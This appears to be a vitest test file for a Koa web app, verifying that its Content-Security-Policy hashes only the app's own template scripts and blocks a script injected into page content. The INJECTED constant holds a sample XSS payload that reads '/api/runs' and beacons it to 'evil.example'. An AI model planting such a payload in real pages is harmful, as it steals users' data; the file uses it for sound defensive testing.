import { createHash, randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Koa from 'koa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { securityHeaders } from '../../src/http/security-headers.ts';
import { templateScriptHashes } from '../../src/http/template-scripts.ts';
import { CONSOLE_DIST } from '../../src/http/web-assets.ts';
import { ensureFrontEndsBuilt } from '../console/console-build.ts';
import { startTestApi, type TestApi } from '../support/test-api.ts';

/**
 * N9: the page CSP used to hash every inline script of the HTML it served, so a script that an
 * escaping slip let into a page's content (a property name on /verify, a profile's summary) would have
 * been allowed to run. Now only the inline scripts of our own templates are allowed.
 */

const sha256 = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
const inlineScripts = (html: string) =>
  [...html.matchAll(/<script(?![^>]*\ssrc=)([^>]*)>([\s\S]*?)<\/script>/g)].map(([, attributes, body]) => ({
    attributes: attributes!,
    body: body!,
  }));
const scriptSrc = (answer: Response) =>
  (answer.headers.get('content-security-policy') ?? '')
    .split(';')
    .map((directive) => directive.trim().split(/\s+/))
    .find(([name]) => name === 'script-src')
    ?.slice(1) ?? [];

const INJECTED = "fetch('/api/runs').then((r) => r.text()).then((t) => navigator.sendBeacon('//evil.example', t))";

let api: TestApi;
let injected: Server;
beforeAll(async () => {
  ensureFrontEndsBuilt();
  api = await startTestApi();
  // A page of ours whose content carries a script that slipped through escaping, under the app's own headers.
  const app = new Koa();
  app.use(
    securityHeaders({
      publicOrigin: 'http://127.0.0.1',
      templateScriptHashes: templateScriptHashes({
        templateFiles: [path.join(CONSOLE_DIST, 'index.html')],
        fixedPages: [],
      }),
    }) as Koa.Middleware,
  );
  app.use((ctx) => {
    ctx.type = 'html';
    ctx.body = `<!doctype html><html><body><h1>Lakeview Cabin<script>${INJECTED}</script></h1></body></html>`;
  });
  injected = createServer(app.callback());
  await new Promise<void>((resolve) => injected.listen(0, '127.0.0.1', resolve));
});
afterAll(async () => {
  injected?.close();
  await api?.close();
});

describe("N9 the page CSP allows only our templates' inline scripts", () => {
  it('does not allow a script that sits in the content of the page served', async () => {
    const { port } = injected.address() as AddressInfo;
    const answer = await fetch(`http://127.0.0.1:${port}/verify/x`);
    expect(await answer.text()).toContain(INJECTED);
    const allowed = scriptSrc(answer);
    expect(allowed).not.toContain(sha256(INJECTED));
    expect(allowed).not.toContain("'unsafe-inline'");
    // What it does allow: the app's files and the console template's own inline scripts.
    const template = readFileSync(path.join(CONSOLE_DIST, 'index.html'), 'utf8');
    expect(allowed).toEqual(["'self'", ...inlineScripts(template).map(({ body }) => sha256(body))]);
  });

  it("on the real pages, the templates' scripts run and the content's script elements get no hash", async () => {
    for (const pagePath of ['/dashboard', `/verify/${randomUUID()}`]) {
      const answer = await fetch(`${api.baseUrl}${pagePath}`, { headers: { 'Accept-Encoding': 'br, gzip' } });
      const scripts = inlineScripts(await answer.text());
      expect(scripts.length, pagePath).toBeGreaterThan(0);
      for (const { body } of scripts) expect(scriptSrc(answer), pagePath).toContain(sha256(body));
    }
    // The landing page's JSON-LD is content (data, never run): no hash of it in the policy.
    const landing = await fetch(`${api.baseUrl}/`);
    const jsonLd = inlineScripts(await landing.text()).filter(({ attributes }) => attributes.includes('ld+json'));
    expect(jsonLd.length).toBeGreaterThan(0);
    for (const { body } of jsonLd) expect(scriptSrc(landing)).not.toContain(sha256(body));
  });
});
